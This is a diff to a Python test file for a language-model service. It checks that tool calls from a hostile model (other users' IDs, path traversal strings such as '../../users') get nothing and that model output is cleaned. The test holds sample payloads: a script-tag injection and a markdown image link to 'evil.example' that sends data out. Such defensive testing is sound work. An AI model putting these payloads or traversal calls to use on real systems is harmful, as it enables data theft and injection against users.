@@ -1,6 +1,7 @@
 """The language model over real HTTP: what it says, what it may do, and what happens when it fails."""
 
 import asyncio
+import json
 import re
 from collections.abc import Sequence
 from contextlib import AsyncExitStack
@@ -220,11 +221,15 @@ async def test_an_answer_has_a_bound_of_tokens(run):
     assert len(asked.servers[0].requests) <= 2
 
 
-HOSTILE_CALLS = [
-    Call("devices", {"user_id": "00000000-0000-4000-8000-000000000001"}),
-    Call("usage", {"period": "today", "user_id": "someone"}),
+#: As they should be, but for what is asked for: the service that has the data says no.
+FOREIGN = [
     Call("usage", {"period": "today", "device_id": 8}),
     Call("usage", {"period": "today", "device_id": -1}),
+]
+#: They fit no tool that there is, and get nowhere.
+UNFIT = [
+    Call("devices", {"user_id": "00000000-0000-4000-8000-000000000001"}),
+    Call("usage", {"period": "today", "user_id": "someone"}),
     Call("usage", {"period": "../../users", "device_id": "7/../../8"}),
     Call("alerts", {"user": "bob"}),
     Call("limits", {"of": "everybody"}),
@@ -234,22 +239,17 @@ HOSTILE_CALLS = [
 ]
 
 
-@pytest.mark.parametrize("call", HOSTILE_CALLS, ids=lambda call: f"{call.tool}-{sorted(call.arguments)}")
+@pytest.mark.parametrize("call", [*FOREIGN, *UNFIT], ids=lambda call: f"{call.tool}-{sorted(call.arguments)}")
 async def test_a_hostile_model_gets_nothing_of_others_and_changes_nothing(run, call):
-    asked = await run([call, call, Text(["<script>alert(1)</script>![x](https://evil.example/?d=1) done"])])
-    try:
-        ending = await asked.ask()
-    except NoAnswer:
-        ending = None
-    foreign = [path for path in asked.peers.asked if str(asked.user_id) not in path]
-    assert foreign == []
-    for request in asked.servers[0].requests:
-        for message in request["messages"]:
-            if message["role"] == "tool":
-                assert "4.5" not in message["content"] or call.arguments.get("device_id") in {None, 7}
-    if ending is not None:
-        assert "<" not in asked.draft.text
-        assert "](" not in asked.draft.text
+    asked = await run([call, Text(["<script>alert(1)</script>![x](https://evil.example/?d=1) done"])])
+    assert isinstance(await asked.ask(), Answered)
+    [told] = [each["content"] for each in asked.servers[0].requests[1]["messages"] if each["role"] == "tool"]
+    assert list(json.loads(told)) == ["error"]
+    assert bool(asked.peers.asked) is (call in FOREIGN)
+    assert all(str(asked.user_id) in path for path in asked.peers.asked)
+    assert asked.draft.text.endswith("done")
+    assert "<" not in asked.draft.text
+    assert "](" not in asked.draft.text
 
 
 async def test_who_does_not_want_the_answer_any_more_ends_the_request(run):
